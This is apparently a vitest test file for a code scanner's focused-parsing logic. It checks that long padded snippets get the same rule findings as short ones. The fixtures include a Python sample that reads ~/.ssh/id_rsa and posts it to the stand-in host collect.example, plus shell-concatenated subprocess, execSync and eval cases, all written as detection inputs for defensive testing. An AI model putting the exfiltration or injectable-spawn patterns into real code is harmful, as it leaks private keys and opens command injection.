import { describe, expect, it } from 'vitest'
import { FOCUS_THRESHOLD, focusText } from '../../src/scan/rules/code/focus'
import type { CodeFinding } from './code-helpers'
import { findingsAs } from './code-helpers'

// Long snippets are parsed as a slice (see focus.ts). Each case is written with `@pad` lines; the short version drops
// them, the long one replaces each with many harmless statements, so the long one is focused and its bindings sit
// far from their uses. Both must be judged alike: the slice may only save time, never change a verdict.

const PY_FILLER = (indent: string) =>
  Array.from({ length: 25 }, (_, i) => `${indent}total_${i} = sum(row["amount"] for row in rows if row["ok"])`).join('\n')
const JS_FILLER = (indent: string) =>
  Array.from({ length: 40 }, (_, i) => `${indent}const total${i} = rows.filter((r) => r.ok).length`).join('\n')

function versions(template: string, python: boolean): { short: string; long: string } {
  const short = template.replace(/^[ \t]*@pad\n/gm, '')
  const long = template.replace(/^([ \t]*)@pad$/gm, (_, indent: string) => (python ? PY_FILLER(indent) : JS_FILLER(indent)))
  return { short, long }
}

const summary = (findings: readonly CodeFinding[]) => findings.map((f) => `${f.rule}:${f.severity}`).sort()

function judgedAlike(template: string, language: 'python' | 'javascript'): string[] {
  const { short, long } = versions(template, language === 'python')
  expect(long.length).toBeGreaterThan(FOCUS_THRESHOLD)
  expect(short.length).toBeLessThan(FOCUS_THRESHOLD)
  const prefix = 'Snippet from the session:\n'
  const a = summary(findingsAs(short, 'code', language, prefix))
  const b = summary(findingsAs(long, 'code', language, prefix))
  expect(b).toEqual(a)
  return b
}

describe('focused parsing of long snippets', () => {
  it('a literal argv bound far above a spawn keeps the spawn literal (low, not a computed command)', () => {
    const found = judgedAlike(
      [
        'import subprocess',
        'def status(rows):',
        '    cmd = ["git", "status", "--short"]',
        '    @pad',
        '    return subprocess.run(cmd, capture_output=True)',
      ].join('\n'),
      'python',
    )
    expect(found).toEqual(['code/process-spawn:low'])
  })

  it('a command built from a parameter far above is still high', () => {
    const found = judgedAlike(
      [
        'const { execSync } = require("child_process")',
        'export function build(target) {',
        '  const command = "make " + target',
        '  @pad',
        '  return execSync(command)',
        '}',
      ].join('\n'),
      'javascript',
    )
    expect(found).toContain('code/process-spawn:high')
  })

  it('a credential read and a network send far apart are still an exfiltration', () => {
    const found = judgedAlike(
      [
        'import os',
        'import requests',
        'def sync():',
        '    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
        '    @pad',
        '    requests.post("https://collect.example/k", data=key)',
      ].join('\n'),
      'python',
    )
    expect(found).toContain('code/exfiltration:high')
  })

  it('a multi-line call inside try/except keeps all its lines and its parameter provenance', () => {
    const found = judgedAlike(
      [
        'import subprocess',
        '@pad',
        'def run(target):',
        '    @pad',
        '    try:',
        '        subprocess.run(',
        '            "make " + target,',
        '            shell=True,',
        '        )',
        '    except OSError:',
        '        @pad',
        '        pass',
      ].join('\n'),
      'python',
    )
    expect(found).toEqual(['code/process-spawn:high'])
  })

  it('keeps the statement, its headers and the brace that closes them; drops the rest', () => {
    const { long } = versions(
      ['function outer(name) {', '  @pad', '  if (name) {', '    @pad', '    eval(name)', '  }', '  @pad', '}'].join('\n'),
      false,
    )
    const focused = focusText(long, 'javascript')
    expect(focused?.text).toBe(['function outer(name) {', '  if (name) {', '    eval(name)', '  }', '}'].join('\n'))
    const at = focused?.text.indexOf('eval(name)') ?? -1
    expect(long.slice(focused?.toOriginal(at), (focused?.toOriginal(at) ?? 0) + 10)).toBe('eval(name)')
  })

  it('brackets inside strings and comments do not stretch a statement', () => {
    const text = ['print("(((")  # )))', 'os.system("ls")', 'y = 1', 'z = 2'].join('\n')
    expect(focusText(text, 'python')?.text).toBe('os.system("ls")')
  })

  it('returns null when no line holds a trigger', () => {
    expect(focusText(PY_FILLER('    '), 'python')).toBeNull()
  })
})
